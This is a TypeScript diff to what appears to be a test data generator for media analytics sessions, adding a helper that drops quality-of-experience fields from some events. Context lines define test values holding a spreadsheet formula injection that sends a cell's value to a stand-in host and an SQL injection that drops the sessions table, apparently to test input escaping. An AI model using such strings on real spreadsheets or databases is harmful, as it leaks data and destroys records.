@@ -60,14 +60,15 @@ export async function insertSessions(store: Store, sessions: readonly SessionRow
 export const hostileName = `=HYPERLINK("http://x.example?a"&A1), 'q' \\ \t\n;`
 export const hostileKey = "k'; DROP TABLE `sessions` \\ {x:String} --"
 
-function odd(body: CollectionEvent, nth: number): object {
+function odd(sent: CollectionEvent, nth: number): object {
+  const body = withoutQuality(sent, nth)
   const { params = {}, customMetadata = {} } = body as {
     params?: Record<string, unknown>
     customMetadata?: Record<string, string>
   }
-  if (body.eventType === 'adStart' && nth % 19 === 0)
+  if (sent.eventType === 'adStart' && nth % 19 === 0)
     return { ...body, params: { ...params, 'media.ad.id': '' } }
-  if (body.eventType !== 'sessionStart') return body
+  if (sent.eventType !== 'sessionStart') return body
   const { 'media.contentType': contentType, ...others } = params
   return {
     ...body,
@@ -84,4 +85,14 @@ function odd(body: CollectionEvent, nth: number): object {
     },
     customMetadata: { ...customMetadata, ...(nth % 4 === 0 && { [hostileKey]: `v${nth % 3}`, team: 'red' }) },
   }
+}
+
+/** Not every player measures how well it plays, or all of it. */
+function withoutQuality(body: CollectionEvent, nth: number): CollectionEvent {
+  if (!('qoeData' in body)) return body
+  const { qoeData, ...others } = body
+  if (nth % 11 === 0) return others
+  if (nth % 5 !== 0) return body
+  const { 'media.qoe.timeToStart': _, ...measured } = qoeData as Record<string, unknown>
+  return { ...others, qoeData: measured }
 }
